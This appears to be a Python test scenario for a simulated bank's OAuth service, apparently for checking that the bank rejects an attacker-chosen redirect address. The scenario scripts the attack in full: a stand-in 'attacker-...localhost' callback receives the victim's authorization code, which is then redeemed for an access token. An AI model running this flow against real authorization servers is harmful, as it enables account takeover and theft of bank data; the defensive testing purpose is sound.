"""A way to the bank that leads back to the attacker: the user agrees for a shop, and the attacker gets the code."""

from __future__ import annotations

from urllib.parse import parse_qs

import httpx

from bank_sim.sdk.pkce import Pkce
from bank_sim.sdk.protocol.problems import Problem
from scenarios.attacks.code_of_another_session import balance_shown
from scenarios.partner import CallbackPage, Partner
from scenarios.registry import Defence, scenario
from scenarios.stage import Attempt, Stage, refused
from scenarios.texts import Text
from user_sim.http_browser import LoopbackTransport


@scenario(
    "code-sent-elsewhere",
    kind="attack",
    clauses=("9.3.1-1.1", "10.2.2-1"),
    summary_en="A shop lets its visitors choose where the bank sends them back to. An attacker chooses an address of"
    " their own and has the victim agree.",
    summary_zh="商户应用允许访问者指定返回地址；攻击者填入自己的地址，并诱使受害者完成授权。",
    defence=Defence("redirect_uri", "ATK-CON-14", 400, "invalid_request", "data"),
)
def code_sent_elsewhere(stage: Stage) -> Attempt:
    """RFC 9700 section 4.1.1. PKCE does not help: the attacker began the flow, so the verifier is of their session."""
    shop = stage.partner("shop")
    address = f"https://attacker-{stage.user.person_id}.localhost/callback"
    stage.attack_begins()
    honest = shop.ask_for_accounts()
    try:
        link = shop.push_by_hand(
            redirect_uri=address,
            state=honest.state,
            code_challenge=honest.pkce.challenge,
            code_challenge_method="S256",
        )
    except Problem as problem:
        return refused(problem)
    stage.say(Text("The victim follows the attacker's link and agrees", "受害者打开攻击者的链接并同意授权"))
    wire = CallbackPage(LoopbackTransport(stage.world.authority), httpx.URL(address).host)
    victim = stage.plays(stage.user, transport=wire)
    landed = victim.at_bank(link).location
    stage.say(Text("The code arrives at the attacker's address", "授权码送达攻击者的地址"))
    code = parse_qs(landed.query)["code"][0]
    return _redeemed(shop, code, address, honest.pkce)


def _redeemed(shop: Partner, code: str, address: str, pkce: Pkce) -> Attempt:
    """What the shop shows in the attacker's session, in which the code came in and the flow began."""
    try:
        answer = shop.client.oauth.post(
            "token", grant_type="authorization_code", code=code, redirect_uri=address, code_verifier=pkce.verifier
        )
        return balance_shown(shop, str(answer["access_token"]))
    except Problem as problem:
        return refused(problem)
